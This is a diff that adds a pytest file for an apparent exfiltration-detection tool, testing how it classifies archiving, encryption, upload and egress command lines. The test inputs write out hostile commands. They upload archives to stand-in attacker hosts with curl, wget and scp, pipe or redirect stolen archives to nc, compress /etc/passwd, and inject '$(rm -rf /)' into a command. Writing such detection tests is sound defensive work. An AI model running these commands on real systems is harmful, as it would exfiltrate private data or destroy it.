@@ -1,0 +1,240 @@
+"""Signals from command lines: archiving with create semantics, never extraction; uploads with
+their destination; wrappers (sh -c, cmd /c, powershell) unwrapped."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from tests.builders import connect, file_write, launch
+from tidewaiter.detection.addresses import AddressPolicy
+from tidewaiter.detection.signals import Detector, SignalKind
+
+detector = Detector()
+
+
+def kinds(cmd: str, **kw: object) -> list[tuple[str, str, str | None]]:
+    return [(s.kind.value, s.tool, s.archive_path) for s in detector.signals(launch(cmd, **kw))]  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    ("cmd", "tool", "path"),
+    [
+        ("tar -czf /path/to/archive.tar.gz /sensitive/data", "tar", "/path/to/archive.tar.gz"),
+        ("tar cvzf out.tgz dir", "tar", "out.tgz"),
+        ("tar --create --gzip --file=/tmp/x.tgz /d", "tar", "/tmp/x.tgz"),
+        ("tar -c -f /tmp/x.tar /d", "tar", "/tmp/x.tar"),
+        ("/usr/bin/zip -r out.zip dir", "zip", "out.zip"),
+        ("gzip -k file.txt", "gzip", "file.txt.gz"),
+        ("pigz big.log", "pigz", "big.log.gz"),
+        ("xz -T0 dump.sql", "xz", "dump.sql.xz"),
+        ("zstd -19 dump.sql", "zstd", "dump.sql.zst"),
+        ("bzip2 x", "bzip2", "x.bz2"),
+        ("7z a s3nsitiv3.7z ../ops_bank_accounts/", "7z", "s3nsitiv3.7z"),
+        ("7za u backup.7z docs", "7za", "backup.7z"),
+        ("rar a -r exfilthis.rar *.docx", "rar", "exfilthis.rar"),
+        ("makecab notes.txt notes.cab", "makecab", "notes.cab"),
+        ("ditto -c -k --sequesterRsrc ~/Documents /tmp/docs.zip", "ditto", "/tmp/docs.zip"),
+        ("jar cf app.jar -C build .", "jar", "app.jar"),
+        ("busybox tar czf /tmp/a.tgz /etc", "tar", "/tmp/a.tgz"),
+        ("cpio -o -F /tmp/a.cpio", "cpio", "/tmp/a.cpio"),
+    ],
+)
+def test_archivers_creating(cmd: str, tool: str, path: str) -> None:
+    assert kinds(cmd) == [("archive", tool, path)]
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        "tar -xzf a.tgz",
+        "tar xvf a.tar",
+        "tar -C /tmp -xzf a.tgz",  # C takes a value: its argument is not a flag cluster
+        "tar -tvf a.tar",
+        "unzip a.zip",
+        "gzip -d f.gz",
+        "gzip -dc x.gz",
+        "gunzip x.gz",
+        "xz --decompress x.xz",
+        "zstd -d x.zst",
+        "7z x a.7z",
+        "7z l a.7z",
+        "rar x a.rar",
+        "ditto src dst",
+        "cpio -idv",
+        "ls -la /tmp",
+        "apt-get install -y curl",
+    ],
+)
+def test_extraction_and_others_are_not_signals(cmd: str) -> None:
+    assert kinds(cmd) == []
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        "7z a -pSecret x.7z d",
+        "zip -P secret -r o.zip d",
+        "zip -er o.zip d",
+        "rar a -hpSecret x.rar d",
+    ],
+)
+def test_password_protected_archives_are_encrypted(cmd: str) -> None:
+    [signal] = detector.signals(launch(cmd))
+    assert signal.kind is SignalKind.ARCHIVE
+    assert signal.encrypted
+
+
+@pytest.mark.parametrize(
+    ("cmd", "encrypts"),
+    [
+        ("openssl enc -aes-256-cbc -salt -in x.tgz -out x.tgz.enc -k pw", True),
+        ("openssl enc -d -aes-256-cbc -in x.enc -out x", False),
+        ("openssl version", False),
+        ("gpg -c --batch --passphrase pw x.tgz", True),
+        ("gpg --symmetric x.tgz", True),
+        ("gpg -d x.gpg", False),
+        ("gpg --verify x.sig", False),
+    ],
+)
+def test_encryption(cmd: str, encrypts: bool) -> None:
+    found = detector.signals(launch(cmd))
+    assert [s.kind for s in found] == ([SignalKind.ENCRYPT] if encrypts else [])
+
+
+@pytest.mark.parametrize(
+    ("cmd", "tool", "where", "internal"),
+    [
+        ("curl -T /tmp/a.tgz https://203.0.113.5/up", "curl", "203.0.113.5", False),
+        ("curl -s -F 'file=@/tmp/a.tgz;type=application/gzip' http://evil.example.com/u", "curl",
+         "evil.example.com", False),
+        ("curl --data-binary @/tmp/x.tgz http://10.1.2.3/", "curl", "10.1.2.3", True),
+        ("wget --post-file=/tmp/x.tgz http://198.51.100.7/", "wget", "198.51.100.7", False),
+        ("scp -i /root/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~", "scp", "34.116.205.187", False),
+        ("rsync -az /data backup.internal:/bk", "rsync", "backup.internal", True),
+        ("rclone copy /data remote:bucket", "rclone", "remote:", False),
+        ("aws s3 cp /tmp/x.tgz s3://bucket/x", "aws s3", "bucket", False),
+        ("gsutil cp /tmp/x.tgz gs://bkt/x", "gsutil", "bkt", False),
+    ],
+)
+def test_uploads(cmd: str, tool: str, where: str, internal: bool) -> None:
+    [signal] = detector.signals(launch(cmd))
+    assert signal.kind is SignalKind.UPLOAD
+    assert signal.tool == tool
+    assert signal.destination is not None
+    assert (signal.destination.host or signal.destination.ip) == where
+    assert signal.destination.internal is internal
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        "curl https://example.com/install.sh",  # a download
+        "curl -o /tmp/x.tgz https://example.com/x.tgz",
+        "scp user@1.2.3.4:/x .",  # copying from a remote host
+        "nc -l -p 4444",  # listening
+        "nc 198.51.100.1 4444",  # nothing shown feeding it
+        "wget https://example.com/a.tgz",
+    ],
+)
+def test_downloads_and_listeners_are_not_uploads(cmd: str) -> None:
+    assert detector.signals(launch(cmd)) == []
+
+
+def test_pipeline_in_shell_wrapper_links_archiver_to_uploader() -> None:
+    found = detector.signals(launch("sh -c 'tar czf - /data | nc 203.0.113.9 4444'"))
+    assert [s.kind for s in found] == [SignalKind.ARCHIVE, SignalKind.UPLOAD]
+    assert found[1].piped
+    assert found[1].destination is not None
+    assert found[1].destination.port == 4444
+
+
+def test_child_fed_by_parent_shell_pipe_counts_as_upload() -> None:
+    event = launch("nc 203.0.113.9 4444", parent_cmd="/bin/sh -c 'cat /tmp/a.tgz | nc 203.0.113.9 4444'")
+    [signal] = detector.signals(event)
+    assert signal.kind is SignalKind.UPLOAD
+
+
+def test_nc_with_redirected_file_in_shell() -> None:
+    found = detector.signals(launch("bash -c 'nc 198.51.100.2 9000 < /tmp/loot.tgz'"))
+    assert [(s.kind, s.sent_paths) for s in found] == [(SignalKind.UPLOAD, ("/tmp/loot.tgz",))]
+
+
+def test_cmd_exe_wrapper() -> None:
+    cmd = r'"C:\Windows\system32\cmd.exe" /c "rar a -r exfilthis.rar *.docx"'
+    assert kinds(cmd, path=r"C:\Windows\System32\cmd.exe") == [("archive", "rar", "exfilthis.rar")]
+
+
+def test_powershell_compress_archive_and_encoded_command() -> None:
+    script = r"Compress-Archive -Path C:\SensitiveData\* -DestinationPath C:\Archive\SensitiveData.zip"
+    plain = kinds(f"powershell.exe -Command {script}")
+    assert plain == [("archive", "Compress-Archive", r"C:\Archive\SensitiveData.zip")]
+    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
+    assert kinds(f"powershell.exe -NoP -enc {encoded}") == plain
+
+
+def test_dotnet_zipfile_is_archive_via_library() -> None:
+    cmd = "pwsh -c \"[IO.Compression.ZipFile]::CreateFromDirectory('C:\\data', 'C:\\out.zip')\""
+    [signal] = detector.signals(launch(cmd))
+    assert (signal.tool, signal.technique, signal.archive_path) == ("ZipFile.CreateFromDirectory", "T1560.002", "C:\\out.zip")
+
+
+@pytest.mark.parametrize(
+    ("cmd", "path"),
+    [
+        ("python3 -c \"import tarfile; t=tarfile.open('/tmp/x.tar.gz','w:gz'); t.add('/etc')\"", "/tmp/x.tar.gz"),
+        ("python3 -m zipfile -c /tmp/a.zip /etc", "/tmp/a.zip"),
+        ("python -c \"import gzip; gzip.open('/tmp/p.gz','wb').write(open('/etc/passwd','rb').read())\"", "/tmp/p.gz"),
+        ("python3.11 -c \"import shutil; shutil.make_archive('/tmp/loot', 'zip', '/srv')\"", "/tmp/loot"),
+    ],
+)
+def test_python_libraries(cmd: str, path: str) -> None:
+    [signal] = detector.signals(launch(cmd))
+    assert signal.technique == "T1560.002"
+    assert signal.archive_path == path
+
+
+def test_python_reading_archives_is_not_a_signal() -> None:
+    assert kinds("python3 -c \"import tarfile; tarfile.open('/tmp/x.tgz').extractall('/tmp')\"") == []
+
+
+def test_split_before_transfer() -> None:
+    [signal] = detector.signals(launch("split -b 10M /tmp/x.tgz /tmp/part."))
+    assert (signal.kind, signal.technique, signal.sent_paths) == (SignalKind.SPLIT, "T1030", ("/tmp/x.tgz",))
+
+
+def test_runtime_commands_on_a_host() -> None:
+    [signal] = detector.signals(launch(r"docker run --rm -v C:\Archive:/data alpine sh"))
+    assert signal.kind is SignalKind.RUNTIME
+    assert signal.sent_paths == (r"C:\Archive:/data",)
+    assert detector.signals(launch("docker ps")) == []
+
+
+def test_egress_only_to_non_internal_addresses() -> None:
+    assert [s.kind for s in detector.signals(connect("203.0.113.7"))] == [SignalKind.EGRESS]
+    for internal in ("10.1.2.3", "192.168.0.9", "172.20.0.1", "127.0.0.1", "169.254.169.254", "fd00::1"):
+        assert detector.signals(connect(internal)) == []
+
+
+def test_address_policy_overrides() -> None:
+    policy = AddressPolicy(internal_cidrs=["203.0.113.0/24"], external_cidrs=["10.99.0.0/16"])
+    custom = Detector(policy)
+    assert custom.signals(connect("203.0.113.7")) == []
+    assert [s.kind for s in custom.signals(connect("10.99.1.1"))] == [SignalKind.EGRESS]
+
+
+def test_archive_files_by_name_and_magic() -> None:
+    [by_name] = detector.signals(file_write("/tmp/q3.tar.gz"))
+    assert by_name.kind is SignalKind.ARCHIVE_FILE
+    [by_magic] = detector.signals(file_write("/tmp/blob.bin", magic=bytes.fromhex("377abcaf271c0004")))
+    assert "7z" in by_magic.explanation
+    assert detector.signals(file_write("/tmp/notes.txt")) == []
+    [encrypted] = detector.signals(file_write("/tmp/loot.tgz.gpg"))
+    assert encrypted.encrypted
+
+
+def test_attacker_text_is_only_tokenised() -> None:
+    # Unbalanced quotes, shell metacharacters and control bytes must not raise.
+    for cmd in ["sh -c 'tar czf", "tar -czf $(rm -rf /) `id`", "curl -T \x00\x1b[31m http://x", 'cmd.exe /c "'] :
+        detector.signals(launch(cmd))
